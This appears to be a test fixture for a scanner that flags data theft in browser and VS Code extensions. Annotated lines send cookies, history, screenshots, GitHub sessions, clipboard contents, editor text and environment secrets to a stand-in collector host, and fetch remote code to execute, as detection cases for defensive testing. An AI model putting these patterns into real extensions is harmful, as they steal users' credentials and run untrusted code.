// Extensions of browsers and of Visual Studio Code.
const axios = require("axios");
const telemetry = require("@vscode/extension-telemetry");
const vscode = require("vscode");

const U = "https://collector.example/u";

async function browserData() {
  chrome.cookies.getAll({}, (cookies) => axios.post(U, cookies)); //~ source(CREDENTIAL) f1, sink(egress.http) f1, finding(traced) f1, capability(CREDENTIALS)
  axios.post(U, { none: (await chrome.cookies.getAll({})) === null }); //~ ok
  chrome.cookies.onChanged.addListener((change) => axios.post(U, change)); //~ source(CREDENTIAL) f2, sink(egress.http) f2, finding(traced) f2, capability(CREDENTIALS)
  chrome.cookies.onChanged.addListener(() => axios.post(U, "changed")); //~ ok
  axios.post(U, (await browser.tabs.query({}))[0].url); //~ source(PERSONAL) f3, sink(egress.http) f3, finding(traced) f3
  axios.post(U, { none: (await browser.tabs.query({})) === null }); //~ ok
  chrome.tabs.onUpdated.addListener((id, change, tab) => axios.post(U, tab.url)); //~ source(PERSONAL) f4, sink(egress.http) f4, finding(traced) f4
  chrome.tabs.onUpdated.addListener(() => axios.post(U, "updated")); //~ ok
  chrome.tabs.captureVisibleTab(null, {}, (image) => axios.post(U, image)); //~ source(SCREEN) f5, sink(egress.http) f5, finding(traced) f5, capability(SCREEN)
  axios.post(U, { none: (await chrome.tabs.captureVisibleTab()) === null }); //~ ok
  chrome.history.search({}, (items) => axios.post(U, items)); //~ source(PERSONAL) f6, sink(egress.http) f6, finding(traced) f6
  chrome.history.search({}, () => axios.post(U, "found")); //~ ok
  axios.post(U, await chrome.storage.local.get("k")); //~ source(DATABASE) f7, sink(egress.http) f7, finding(traced) f7, capability(DATABASE)
  axios.post(U, { none: (await chrome.storage.local.get("k")) === null }); //~ ok
  axios.post(U, await chrome.storage.local.set({ k: process.env.T })); //~ ok
  axios.post(U, await chrome.management.getAll()); //~ source(DEVICE) f8, sink(egress.http) f8, finding(traced) f8, capability(DEVICE)
  axios.post(U, { none: (await chrome.management.getAll()) === null }); //~ ok
  chrome.identity.getProfileUserInfo((user) => axios.post(U, user.email)); //~ source(USER) f9, sink(egress.http) f9, finding(traced) f9
  chrome.identity.getProfileUserInfo(() => axios.post(U, "user")); //~ ok
}

async function browserMessages() {
  axios.post(U, await chrome.runtime.sendMessage("ping")); //~ source(INPUT) f10, sink(egress.http) f10, finding(traced) f10, capability(IPC)
  axios.post(U, { none: (await chrome.runtime.sendMessage("ping")) === null }); //~ ok
  chrome.runtime.sendNativeMessage("host", process.env.T); //~ source(ENVIRONMENT) f11, sink(egress.ipc) f11, finding(traced) f11, capability(IPC)
  chrome.runtime.sendNativeMessage("host", "ping"); //~ ok
  const port = chrome.runtime.connectNative("host"); //~ capability(IPC)
  port.postMessage(process.env.T); //~ source(ENVIRONMENT) f12, sink(egress.ipc) f12, finding(traced) f12
  chrome.runtime.connectNative("host").postMessage("ping"); //~ ok
  chrome.runtime.onMessage.addListener((message) => axios.post(U, message)); //~ source(INPUT) f13, sink(egress.http) f13, finding(traced) f13, capability(IPC)
  chrome.runtime.onMessage.addListener(() => axios.post(U, "message")); //~ ok
  chrome.webRequest.onBeforeSendHeaders.addListener((details) => axios.post(U, details)); //~ source(CREDENTIAL) f14, sink(egress.http) f14, finding(traced) f14, capability(NETWORK)
  chrome.webRequest.onBeforeSendHeaders.addListener(() => axios.post(U, "sent")); //~ ok
  chrome.tabs.create({ url: U + "?t=" + process.env.T }); //~ source(ENVIRONMENT) f15, sink(egress.http) f15, finding(traced) f15, capability(NETWORK)
  chrome.tabs.create({ url: U }); //~ ok
}

async function browserCode() {
  const { data } = await axios.get(U); //~ source(NETWORK) f16
  chrome.tabs.executeScript(1, { code: data }); //~ sink(exec.code) f16, finding(traced) f16, capability(DYNAMIC_CODE)
  chrome.tabs.executeScript(1, { code: "1" }); //~ ok
  chrome.debugger.sendCommand({}, "Runtime.evaluate", { expression: data }); //~ sink(exec.code) f16, finding(traced) f16, capability(DYNAMIC_CODE)
  chrome.debugger.sendCommand({}, "Runtime.evaluate", { expression: "1" }); //~ ok
}

async function editorData() {
  axios.post(U, vscode.window.activeTextEditor.document.getText()); //~ source(FILE) f17, sink(egress.http) f17, finding(traced) f17, capability(FILES)
  axios.post(U, { none: vscode.window.activeTextEditor.document.getText() === "" }); //~ ok
  vscode.workspace.onDidSaveTextDocument((document) => axios.post(U, document.getText())); //~ source(FILE) f18, sink(egress.http) f18, finding(traced) f18, capability(FILES)
  vscode.workspace.onDidSaveTextDocument(() => axios.post(U, "saved")); //~ ok
  axios.post(U, await vscode.workspace.findFiles("**")); //~ source(FILE_META) f19, sink(egress.http) f19, finding(traced) f19, capability(FILES)
  axios.post(U, { none: (await vscode.workspace.findFiles("**")) === null }); //~ ok
  axios.post(U, vscode.env.machineId); //~ source(DEVICE) f20, sink(egress.http) f20, finding(traced) f20, capability(DEVICE)
  axios.post(U, { none: vscode.env.machineId === "" }); //~ ok
  axios.post(U, await vscode.env.clipboard.readText()); //~ source(CLIPBOARD) f21, sink(egress.http) f21, finding(traced) f21, capability(CLIPBOARD)
  axios.post(U, { none: (await vscode.env.clipboard.readText()) === "" }); //~ ok
  axios.post(U, vscode.Uri.parse(process.env.T)); //~ source(ENVIRONMENT) f22, sink(egress.http) f22, finding(traced) f22
  axios.post(U, vscode.Uri.parse(U)); //~ ok
  axios.post(U, await vscode.authentication.getSession("github", [])); //~ source(CREDENTIAL) f23, sink(egress.http) f23, finding(traced) f23, capability(CREDENTIALS)
  axios.post(U, { none: (await vscode.authentication.getSession("github", [])) === null }); //~ ok
  axios.post(U, await vscode.window.showInputBox({})); //~ source(INPUT) f24, sink(egress.http) f24, finding(traced) f24
  axios.post(U, { none: (await vscode.window.showInputBox({})) === "" }); //~ ok
  vscode.commands.registerCommand("x", (input) => axios.post(U, input)); //~ source(INPUT) f25, sink(egress.http) f25, finding(traced) f25
  vscode.commands.registerCommand("x", () => axios.post(U, "x")); //~ ok
}

async function editorCode() {
  const { data } = await axios.get(U); //~ source(NETWORK) f26
  vscode.workspace.fs.writeFile(null, data); //~ sink(file.write) f26, finding(traced) f26, capability(FILE_WRITE)
  vscode.workspace.fs.writeFile(null, "ping"); //~ ok
  vscode.window.createTerminal("t", data); //~ sink(exec.command) f26, finding(traced) f26, capability(EXEC)
  vscode.window.createTerminal("t").sendText(data); //~ sink(exec.command) f26, finding(traced) f26, capability(EXEC)
  new vscode.ShellExecution(data); //~ sink(exec.command) f26, finding(traced) f26, capability(EXEC)
  vscode.window.createTerminal("t").sendText("ls"); //~ ok
  new vscode.ShellExecution("ls"); //~ ok
}

function editorTelemetry() {
  const reporter = new telemetry.TelemetryReporter("key"); //~ capability(NETWORK)
  reporter.sendTelemetryEvent("e", { t: process.env.T }); //~ source(ENVIRONMENT) f27, sink(egress.telemetry) f27, finding(traced) f27
  new telemetry.TelemetryReporter("key").sendTelemetryEvent("e", { t: 1 }); //~ ok
}
